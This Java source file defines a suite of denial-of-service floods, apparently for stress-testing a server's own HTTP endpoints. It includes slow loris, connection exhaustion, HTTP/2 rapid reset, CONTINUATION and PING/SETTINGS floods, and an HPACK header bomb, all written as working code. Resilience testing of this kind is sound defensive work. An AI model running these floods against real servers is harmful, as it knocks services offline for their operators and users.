package dev.herald.packaging;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.Socket;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.List;

import dev.herald.web.RawHttp2;

import static dev.herald.web.RawHttp2.frame;
import static dev.herald.web.RawHttp2.headers;
import static dev.herald.web.RawHttp2.request;

/**
 * Attack that one client address sends in rounds.
 *
 * @param rounds a second, of each attacker
 */
record Flood(String name, int rounds, Round round) {
    private static final int FRAMES = 500;
    private static final int RESET = 3;
    private static final int PRIORITY = 2;
    private static final int WINDOW_UPDATE = 8;
    private static final int UNKNOWN = 0x42;
    private static final byte[] NOTHING = {};

    /** Connections that an attacker keeps open. */
    private static final int MANY = 500;

    /** What is sent in one round. */
    @FunctionalInterface
    interface Round {
        void send(Attacker attacker) throws IOException;
    }

    /** All attacks. Frames of HTTP/2 come in batches of {@value #FRAMES}, 25,000 a second from each attacker. */
    static List<Flood> all() {
        return List.of(
                new Flood("slow loris", 300, Flood::slowLoris),
                new Flood("connections without a byte", 300, attacker -> attacker.keep(attacker.connect(), MANY)),
                new Flood("RST after a request", 250, Flood::abort),
                new Flood("connections that close at once", 250, attacker -> attacker.connect()
                        .close()),
                new Flood("heads of 60 KB", 50, Flood::longHead),
                new Flood("pipelined requests", 50, Flood::pipeline),
                new Flood("HTTP/2 resets", 50, Flood::resets),
                http2("HTTP/2 SETTINGS", frame(RawHttp2.SETTINGS, 0, 0, NOTHING)),
                http2("HTTP/2 PING", frame(RawHttp2.PING, 0, 0, new byte[8])),
                http2("HTTP/2 PRIORITY", frame(PRIORITY, 0, 1, new byte[] {0, 0, 0, 3, 7})),
                http2("HTTP/2 WINDOW_UPDATE", frame(WINDOW_UPDATE, 0, 0, number(1))),
                http2("HTTP/2 unknown frames", frame(UNKNOWN, 0, 0, NOTHING)),
                http2("HTTP/2 empty DATA", frame(RawHttp2.DATA, 0, 1, NOTHING)),
                new Flood("HTTP/2 CONTINUATION", 50, Flood::continuations),
                new Flood("HTTP/2 HPACK bomb", 50, Flood::headerBomb),
                new Flood("HTTP/2 requests without a window", 50, Flood::unread));
    }

    private static byte[] number(int value) {
        return ByteBuffer.allocate(Integer.BYTES).putInt(value).array();
    }

    /** The frame many times, on a connection with an open request body. */
    private static Flood http2(String name, byte[] frame) {
        byte[] batch = repeated(frame, FRAMES);
        return new Flood(name, 50, attacker -> {
            if (attacker.openHttp2()) {
                attacker.sendHttp2(headers(
                        1, false, request("POST", "/message", ":authority", "h", "content-type", "application/json")));
            }
            attacker.sendHttp2(batch);
        });
    }

    private static byte[] repeated(byte[] one, int times) {
        ByteArrayOutputStream all = new ByteArrayOutputStream();
        for (int i = 0; i < times; i++) {
            all.writeBytes(one);
        }
        return all.toByteArray();
    }

    private static void slowLoris(Attacker attacker) throws IOException {
        if (attacker.kept() < MANY) {
            Socket socket = attacker.connect();
            write(socket, "GET /SSE HTTP/1.1\r\nHost: h\r\nX: ");
            attacker.keep(socket, MANY);
        }
        attacker.writeToOldest((byte) 'x');
    }

    private static void abort(Attacker attacker) throws IOException {
        Socket socket = attacker.connect();
        write(socket, "GET /SSE?topic=attack HTTP/1.1\r\nHost: h\r\n\r\n");
        socket.setSoLinger(true, 0);
        socket.close();
    }

    private static void longHead(Attacker attacker) throws IOException {
        try (Socket socket = attacker.connect()) {
            write(socket, "GET /SSE HTTP/1.1\r\nHost: h\r\n" + "x: y\r\n".repeat(10_000) + "\r\n");
        }
    }

    private static void pipeline(Attacker attacker) throws IOException {
        try (Socket socket = attacker.connect()) {
            write(socket, "GET /nothing HTTP/1.1\r\nHost: h\r\n\r\n".repeat(100));
        }
    }

    private static void write(Socket socket, String latin1) throws IOException {
        socket.getOutputStream().write(latin1.getBytes(StandardCharsets.ISO_8859_1));
    }

    private static void resets(Attacker attacker) throws IOException {
        attacker.openHttp2();
        ByteArrayOutputStream batch = new ByteArrayOutputStream();
        for (int i = 0; i < FRAMES / 2; i++) {
            int stream = attacker.nextStream();
            batch.writeBytes(headers(stream, true, request("GET", "/SSE", ":authority", "h")));
            batch.writeBytes(frame(RESET, 0, stream, number(8)));
        }
        attacker.sendHttp2(batch.toByteArray());
    }

    private static void continuations(Attacker attacker) throws IOException {
        if (attacker.openHttp2()) {
            attacker.sendHttp2(frame(RawHttp2.HEADERS, 0, 1, request("GET", "/SSE", ":authority", "h")));
        }
        attacker.sendHttp2(repeated(frame(RawHttp2.CONTINUATION, 0, 1, NOTHING), FRAMES));
    }

    /** An entry of 3 KB in the table of fields, and a thousand references of one byte to it (RFC 7541 §7.3). */
    private static void headerBomb(Attacker attacker) throws IOException {
        boolean first = attacker.openHttp2();
        ByteArrayOutputStream fields = new ByteArrayOutputStream();
        fields.writeBytes(request("GET", "/SSE", ":authority", "h"));
        if (first) {
            byte[] field = RawHttp2.field("x-bomb", "y".repeat(3_000));
            field[0] = 0x40;
            fields.writeBytes(field);
        }
        fields.writeBytes(repeated(new byte[] {(byte) (0x80 | 62)}, 1_000));
        attacker.sendHttp2(headers(attacker.nextStream(), true, fields.toByteArray()));
    }

    private static void unread(Attacker attacker) throws IOException {
        if (attacker.openHttp2()) {
            attacker.sendHttp2(frame(
                    RawHttp2.SETTINGS,
                    0,
                    0,
                    ByteBuffer.allocate(6).putShort((short) 4).putInt(0).array()));
        }
        ByteArrayOutputStream batch = new ByteArrayOutputStream();
        for (int i = 0; i < 10; i++) {
            batch.writeBytes(headers(attacker.nextStream(), true, request("GET", "/", ":authority", "h")));
        }
        attacker.sendHttp2(batch.toByteArray());
    }

    @Override
    public String toString() {
        return name;
    }
}
